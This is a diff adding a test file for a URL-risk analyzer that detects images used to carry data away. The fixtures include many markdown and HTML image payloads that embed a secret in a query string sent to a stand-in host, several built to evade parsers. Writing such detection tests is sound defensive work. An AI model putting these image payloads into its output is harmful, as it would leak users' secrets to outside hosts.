@@ -1,0 +1,103 @@
+import { describe, expect, it } from 'vitest';
+import type { AnalyzerDeps } from '../../src/analyzers/deps.js';
+import { htmlTags } from '../../src/analyzers/url-risk/links/html-tags.js';
+import { markdownLabels } from '../../src/analyzers/url-risk/links/markdown-labels.js';
+import { urlRisk } from '../../src/analyzers/url-risk/url-risk.js';
+import { textViews } from '../../src/text/views.js';
+import { fc } from '../support/properties.js';
+
+const prepared = await urlRisk.prepare({}, {} as unknown as AnalyzerDeps);
+const threatsOf = async (text: string) => {
+  const { output } = await prepared.analyze(textViews(text), { signal: new AbortController().signal });
+  return output.urls.flatMap((url) => url.threat_types);
+};
+const leak = 'https://status.acme-corp.com/l.png?secret=hunter2horse';
+const words = 'how the garden looks in spring, ';
+const page = 'A paragraph about the opening hours of the library.\n\n'.repeat(700);
+
+describe('an image that carries data away is told', () => {
+  it.each([
+    ['with a plain alt text', `![status](${leak})`],
+    ['with a long alt text', `![${words.repeat(40)}](${leak})`],
+    ['with brackets in its alt text', `![a [b] c](${leak})`],
+    ['with an escaped bracket in its alt text', `![a \\] c](${leak})`],
+    ['with a bracket in code in its alt text', `![a \`]\` b](${leak})`],
+    ['in the label of a link', `[![a](${leak})](https://example.org/)`],
+    ['by a name, with brackets in its alt text', `![a [b] c][p]\n\n[p]: ${leak}`],
+    ['by a name that stands far off', `![status][p]\n\n${page}[p]: ${leak}`],
+    ['by a name that is defined far before', `[p]: ${leak}\n\n${page}![status][p]`],
+    ['with a > in its alt text', `<img alt="a > b" src="${leak}">`],
+    ['behind a long attribute', `<img alt="${words.repeat(40)}" class=x src='${leak}'>`],
+    ['without quotation marks', `<img class=wide src=${leak}>`],
+    ['in a set of images', `<img srcset="https://example.org/${'a'.repeat(900)}.png 1x, ${leak} 2x">`],
+    ['in JSON', JSON.stringify({ html: `<img alt="a > b" src="${leak}">` })],
+    ['in a tag across a cut of the text', `${page.slice(0, 32_700)}<img alt="${'x'.repeat(100)}" src="${leak}">`],
+    ['behind a long path', `![status](https://status.acme-corp.com/${'a/'.repeat(1500)}l.png?secret=hunter2horse)`],
+    ['behind a path without an end', `![status](https://status.acme-corp.com/${'a/'.repeat(9000)}l.png?secret=x)`],
+  ])('%s', async (_, text) => {
+    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
+  });
+
+  it.each([
+    ['a link', `[status](${leak})`],
+    ['a link in a tag', `<a title="a > b" href="${leak}">status</a>`],
+    ['a text beside an image', `![logo](https://status.acme-corp.com/logo.png) ${leak}`],
+    ['a text behind a tag', `<img alt="a" src="/logo.png"> ${leak}`],
+    ['a link behind an image of a name', `![logo] and [status](${leak})`],
+    ['what an attribute tells', `<img alt="see ${leak}" src="/logo.png">`],
+    ['an image in code', `<span title="x">${leak}</span>`],
+  ])('unlike %s', async (_, text) => {
+    expect(await threatsOf(text)).not.toContain('DATA_EXFILTRATION');
+  });
+
+  it('and so is no address of which something was left unread', async () => {
+    expect(await threatsOf(`see https://www.iana.org/${'a'.repeat(9000)} now`)).toEqual(['SUSPICIOUS']);
+    expect(await threatsOf(`see https://www.iana.org/${'a'.repeat(7000)} now`)).toEqual([]);
+  });
+});
+
+describe('markup', () => {
+  const piece = fc.constantFrom(
+    ...[
+      '[',
+      ']',
+      '![',
+      '](',
+      '](http://a.bc',
+      '\\',
+      '`',
+      '\n',
+      '\n\n',
+      '<img ',
+      '<a href=',
+      '"',
+      "'",
+      '>',
+      '=',
+      ' ',
+      'x',
+      '</a>',
+      '][',
+    ],
+  );
+  const texts = fc.array(piece, { maxLength: 80 }).map((pieces) => pieces.join(''));
+
+  it('is read alike in one go and place by place, and holds what it says', () => {
+    fc.assert(
+      fc.property(texts, (text) => {
+        const [atOnce, inTurn] = [markdownLabels(text), markdownLabels(text)];
+        atOnce.isImage('');
+        const [tagsAtOnce, tagsInTurn] = [htmlTags(text), htmlTags(text)];
+        tagsAtOnce.around(text.length);
+        for (let at = 0; at < text.length; at++) {
+          expect(inTurn.endingAt(at)).toEqual(atOnce.endingAt(at));
+          const place = tagsInTurn.around(at);
+          expect(place).toEqual(tagsAtOnce.around(at));
+          if (!place) continue;
+          expect(place.valueStart).toBeLessThanOrEqual(at);
+          expect(place.tagEnd).toBeGreaterThan(at);
+        }
+      }),
+    );
+  });
+});
